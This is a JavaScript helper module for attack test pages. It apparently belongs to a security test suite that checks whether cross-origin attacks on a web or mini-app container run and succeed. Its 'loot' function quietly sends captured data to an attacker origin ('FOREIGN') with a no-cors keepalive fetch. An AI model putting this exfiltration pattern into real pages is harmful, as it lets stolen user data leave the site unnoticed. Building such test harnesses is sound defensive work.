// Functions for the pages of attacks. PROGRAM, FOREIGN and STRANGER are origins, and
// OVER is the address to go to when the attack is over, or ''.
const {program, foreign, stranger, ran, gained, over, wait, loot, call, nextTo} = (() => {
  const log = console.log.bind(console);
  const stringify = JSON.stringify;
  const later = setTimeout.bind(window);
  const go = location.replace.bind(location);
  const fetch_ = fetch.bind(window);
  const Promise_ = Promise;
  const isTop = top === window;
  const say = (word) => (...parts) => {
    let text = word;
    for (let i = 0; i < parts.length; i++) text += ' ' + (typeof parts[i] === 'string' ? parts[i] : stringify(parts[i]));
    if (isTop) log(text);
    fetch_(FOREIGN + '/' + word + '?' + encodeURIComponent(text), {mode: 'no-cors', keepalive: true}).catch(() => {});
  };
  return {
    program: PROGRAM, foreign: FOREIGN, stranger: STRANGER,
    // ran proves that the attack was carried out, and gained that it succeeded.
    ran: say('ran'), gained: say('GAINED'),
    // over ends the attack.
    over: () => {
      if (!isTop) return;
      log('over');
      if (OVER !== '') later(() => go(OVER), 0);
    },
    wait: (ms) => new Promise_((done) => later(done, ms)),
    // loot sends what the attack gained to a server of the attacker.
    loot: (what) => fetch_(FOREIGN + '/loot?' + encodeURIComponent(what), {mode: 'no-cors', keepalive: true}).catch(() => {}),
    // call returns the result of a call, whether it succeeds or fails.
    call: (name, options) => new Promise_((done) => window.my.call(name, {...options, complete: done})),
    nextTo: (name) => new URL(name, location.href).href,
  };
})();
